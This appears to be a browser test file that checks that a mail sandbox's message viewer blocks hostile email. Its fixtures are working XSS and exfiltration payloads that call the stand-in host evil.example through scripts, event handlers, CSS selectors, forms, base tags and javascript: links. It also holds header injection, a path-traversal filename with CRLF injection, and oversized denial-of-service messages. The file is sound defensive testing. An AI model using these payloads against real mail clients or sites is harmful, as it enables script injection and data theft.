// Mail that wants out, or in: it runs nothing, reaches nobody, and the page stays as it is.

import { check, checkEqual, eventually } from "../bench.mjs";

const EVIL = "http://evil.example";

const HTML = {
    "a script": `<script>document.title="ran";fetch("${EVIL}/1")</script><script src="${EVIL}/2"></script><script type="module">import "${EVIL}/3"</script>`,
    "event handlers": `<img src="x" onerror="top.document.title='ran';fetch('${EVIL}/4')"><body onload="parent.x=1"><details open ontoggle="fetch('${EVIL}/5')">x</details><svg onload="fetch('${EVIL}/6')"></svg>`,
    "a refresh": `<meta http-equiv="refresh" content="0;url=${EVIL}/7"><meta http-equiv="refresh" content="0;url=/sandbox/">`,
    "a policy of its own": `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><img src="${EVIL}/8">`,
    "styles that tell": `<style>@import "${EVIL}/9.css"; @font-face{font-family:x;src:url(${EVIL}/10)} body{background:url("${EVIL}/11");font-family:x;list-style:url(${EVIL}/12);cursor:url(${EVIL}/13),auto} input[value^="a"]{background:url(${EVIL}/14)}</style><input value="abc"><link rel="stylesheet" href="${EVIL}/15">`,
    "pictures in every form": `<img src="${EVIL}/16" srcset="${EVIL}/17 2x"><picture><source srcset="${EVIL}/18"><img src="${EVIL}/19"></picture><video src="${EVIL}/20" poster="${EVIL}/21" autoplay></video><audio src="${EVIL}/22" autoplay></audio><table background="${EVIL}/23"><tr><td>x</td></tr></table><input type="image" src="${EVIL}/24">`,
    "hints to the browser": `<link rel="preload" as="image" href="${EVIL}/25"><link rel="prefetch" href="${EVIL}/26"><link rel="preconnect" href="${EVIL}"><link rel="dns-prefetch" href="//evil.example"><link rel="icon" href="${EVIL}/27"><link rel="modulepreload" href="${EVIL}/28"><link rel="manifest" href="${EVIL}/29"><link rel="prerender" href="${EVIL}/30">`,
    SVG: `<svg xmlns="http://www.w3.org/2000/svg"><script>parent.x=1</script><image href="${EVIL}/31"/><use href="${EVIL}/32#a"/><foreignObject><iframe src="${EVIL}/33"></iframe></foreignObject><a href="javascript:top.x=1"><text y="20">click</text></a></svg>`,
    "frames and objects": `<iframe src="${EVIL}/34"></iframe><iframe srcdoc="<script>top.x=1</script><img src='${EVIL}/35'>"></iframe><object data="${EVIL}/36"></object><embed src="${EVIL}/37"><frameset><frame src="${EVIL}/38"></frameset><portal src="${EVIL}/39"></portal>`,
    forms: `<form action="${EVIL}/40" id="f"><input name="a"><button id="go">go</button></form><form action="/sandbox/messages" method="post"><button>x</button></form>`,
    "a base": `<base href="${EVIL}/41/" target="_top"><img src="p.gif"><a href="x">link</a>`,
    links: `<a id="l1" href="${EVIL}/42" target="_top" ping="${EVIL}/43">top</a><a id="l2" href="${EVIL}/44" target="_blank">blank</a><a id="l3" href="javascript:alert(1)">js</a><a id="l4" href="${EVIL}/45" target="_self" download>self</a>`,
    "an end of the frame": `</iframe></body></html><script>parent.x=1</script><plaintext>`,
    "itself, over all": `<div style="position:fixed;inset:0;z-index:2147483647;background:red;width:10000px;height:10000px">over</div>`,
    "attributes without an end": `<img src="${EVIL}/46" alt="<a href='${EVIL}/47`,
    "an old way in": `<style>x{behavior:url(${EVIL}/48);-moz-binding:url(${EVIL}/49)}</style><xml id=x></xml><math href="javascript:top.x=1">m</math><isindex action="${EVIL}/50">`,
};

const mail = (html) =>
    `From: mallory@example.com\nTo: bob@example.net\nSubject: <img src=x onerror=top.x=1>"'\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n${html}\n`;

const BROKEN = {
    "nothing at all": Buffer.from("x"),
    "header of scripts": Buffer.from(
        `From: <script>top.x=1</script>\r\nTo: "><img src=${EVIL}/60>\r\nSubject: =?utf-8?Q?=3Cscript=3Etop.x=3D1=3C/script=3E?=\r\nReply-To: javascript:top.x=1\r\nX-\u202e: \u202egnp.exe\r\n\r\nx`,
    ),
    "a file name that leads away": Buffer.from(
        `Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; name="../../../etc/<script>.html"\r\nContent-Disposition: attachment; filename*=utf-8''..%2f..%2f%3Cscript%3E%0d%0aSet-Cookie%3A%20x.html\r\n\r\n<script>top.x=1</script>\r\n--b--`,
    ),
    "SVG as an inline picture": Buffer.from(
        `Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src="cid:s"><object data="cid:s"></object><embed src="cid:s">\r\n--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <s>\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="top.x=1"><script>top.x=1</script></svg>\r\n--b--`,
    ),
    "nested without an end": Buffer.from(
        `Content-Type: multipart/mixed; boundary=a\r\n\r\n${"--a\r\nContent-Type: multipart/mixed; boundary=a\r\n\r\n".repeat(200)}`,
    ),
    "a thousand parts": Buffer.from(
        `Content-Type: multipart/mixed; boundary=a\r\n\r\n${"--a\r\nContent-Type: text/html\r\n\r\n<b>x\r\n".repeat(1000)}`,
    ),
    "a subject of a hundred kilobytes": Buffer.from(`Subject: ${"W".repeat(100_000)}\r\n\r\nx`),
    "octets that are no text": Buffer.concat([
        Buffer.from("Subject: \xff\xfe\x00\x1b[31m\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n", "latin1"),
        Buffer.from(Array.from({ length: 4096 }, (_, i) => i % 256)),
    ]),
    "one line of three hundred kilobytes": Buffer.from(`Subject: long\r\n\r\n${"a".repeat(300_000)}`),
};

const VIEWS = ["text", "headers", "parts", "source", "dialogue"];

// Nothing is wider than the window, and the bar and the list are where they were.
async function checkLayout(page, what) {
    const found = await page.evaluate(() => ({
        wide: document.documentElement.scrollWidth - innerWidth,
        bar: document.querySelector(".bar").getBoundingClientRect().top,
        detail: document.getElementById("detail").scrollWidth - document.getElementById("detail").clientWidth,
        ran: window.x ?? null,
        title: document.title.replace(/^\(\d+\) /, ""),
    }));
    checkEqual(found, { wide: 0, bar: 0, detail: 0, ran: null, title: "Postern sandbox" }, what);
}

async function openAt(page, id, view) {
    await page.evaluate((hash) => (location.hash = hash), `#/messages/${id}/${view}`);
    await page.waitForSelector(`.headline code, .facts code:text("${id}")`);
}

async function lookAtHtml(bench, page, name, id) {
    await openAt(page, id, "html");
    const frame = await eventuallyFrame(page, id);
    await frame.waitForLoadState("load").catch(() => {});
    for (const link of await frame.$$("a, button")) {
        await link.evaluate((element) => element.dispatchEvent(new MouseEvent("click", { bubbles: true })));
    }
    await checkLayout(page, name);
    check(page.url().startsWith(bench.url), `${name} led the page away`);
}

async function eventuallyFrame(page, id) {
    let frame = null;
    await eventually(
        "the frame",
        () => (frame = page.frames().find((each) => each.url().includes(`/sandbox/shown/${id}/`))),
    );
    return frame;
}

export const cases = [
    [
        "HTML runs nothing, leads nowhere, and reaches nobody",
        async (bench) => {
            const ids = await bench.smtp(...Object.values(HTML).map(mail));
            const page = await bench.page();
            for (const [i, name] of Object.keys(HTML).entries()) {
                await lookAtHtml(bench, page, name, ids[i]);
            }
            await bench.shoot(page, "html");
            await page.waitForTimeout(300);
            bench.forgiveWhatWasBlocked();
        },
    ],
    [
        "with remote content too, it runs nothing and leads nowhere",
        async (bench) => {
            const [id] = await bench.smtp(mail(Object.values(HTML).join("\n")));
            const page = await bench.page({ hash: `#/messages/${id}/html` });
            await page.click('button:text("Load remote content")');
            await eventually("pictures come", async () => bench.trap.visits.length > 0);
            await page.waitForTimeout(300);
            await checkLayout(page, "with remote content");
            const wrong = bench.trap.visits.filter((visit) =>
                /\/(1|2|3|4|5|6|7|28|33|34|36|37|38|39|40|42|43|44|45) /.test(visit),
            );
            checkEqual(wrong, [], "what it fetched beside pictures and styles");
            bench.trap.visits.length = 0;
            bench.forgiveWhatWasBlocked();
        },
    ],
    [
        "broken mail is shown in every view, and breaks none, at 400 px either",
        async (bench) => {
            const ids = await bench.smtp(...Object.values(BROKEN));
            for (const narrow of [false, true]) {
                const page = await bench.page({ narrow, hash: `#/messages/${ids[0]}` });
                for (const [i, name] of Object.keys(BROKEN).entries()) {
                    for (const view of VIEWS) {
                        await openAt(page, ids[i], view);
                        await checkLayout(page, `${name}, ${view}${narrow ? ", narrow" : ""}`);
                    }
                }
                await bench.shoot(page, narrow ? "broken-narrow" : "broken");
            }
            bench.forgiveWhatWasBlocked();
        },
    ],
    [
        "HTML of 5 MB is shown, and the page stays alive",
        async (bench) => {
            const cell = `<tr><td style="color:red">x</td><td><a href="${EVIL}/70">y</a></td></tr>`;
            const [id] = await bench.smtp(
                mail(`<table>${cell.repeat(Math.ceil(5_000_000 / cell.length))}</table>`.replace(/(.{900})/g, "$1\n")),
            );
            const page = await bench.page({ hash: `#/messages/${id}/html` });
            await page.waitForSelector(".message h2");
            await page.click("#view-source", { timeout: 30_000 });
            await page.waitForSelector(".source");
            await checkLayout(page, "5 MB");
            await page.click('[data-place="compose"]');
            await page.waitForSelector("#f-from");
            bench.forgiveWhatWasBlocked();
        },
    ],
];
